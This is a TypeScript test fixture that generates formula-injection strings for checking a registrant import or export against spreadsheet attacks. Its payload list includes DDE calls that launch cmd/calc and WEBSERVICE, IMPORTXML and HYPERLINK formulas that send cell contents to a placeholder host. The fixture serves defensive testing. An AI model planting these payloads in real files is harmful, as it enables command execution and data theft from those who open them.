/**
 * Texts that try to be formulas, commands or other texts in whatever opens a file of them, none like another: openings that a reader may skip before a
 * sign that it may obey, what the sign would do, and plain odd texts between them. No control characters: the import refuses those in every text (lib/registrants/import).
 */
const openings = ['', ' ', '  ', '\u00a0', '\u200b', '\ufeff', '\u3000', '\u2060', '\u202e', '\u00ad', '\'', '\'\'', '"', '""', '„', '\u200d', '0', '00', '.', ';', ',', '|']
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹫', '−', '', '=-', '=+', '@=', '%', '\\t=', '&#61;', '%3D']
const deeds = [
  '1+1', 'SUM(A1:A9)', 'HYPERLINK("http://x.example/?q="&A1,"open")', 'WEBSERVICE("http://x.example")', 'cmd|\' /C calc\'!A0', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '2+3+cmd|\' /C calc\'!D2', 'A1', '10', '1e5', '0012', '1/2', '12-3', '2026-11-28', 'TRUE', 'NULL', 'सीता देवी', 'O\'Brien, "the 2nd"', 'a,b;c|d\u00e9', 'राम\u200dलाल', '🙂 + 1',
]

/** The `count` first of them; the same every time. */
export function hostileTexts(count: number): string[] {
  const all = new Set<string>()
  for (const deed of deeds) for (const sign of signs) for (const opening of openings) all.add(`${opening}${sign}${deed}`)
  if (all.size < count) throw new Error(`only ${all.size} texts`)
  // Every n-th, so that few texts are of every kind too.
  const texts = [...all]
  return Array.from({ length: count }, (_, index) => texts[Math.floor((index * texts.length) / count)] ?? '')
}
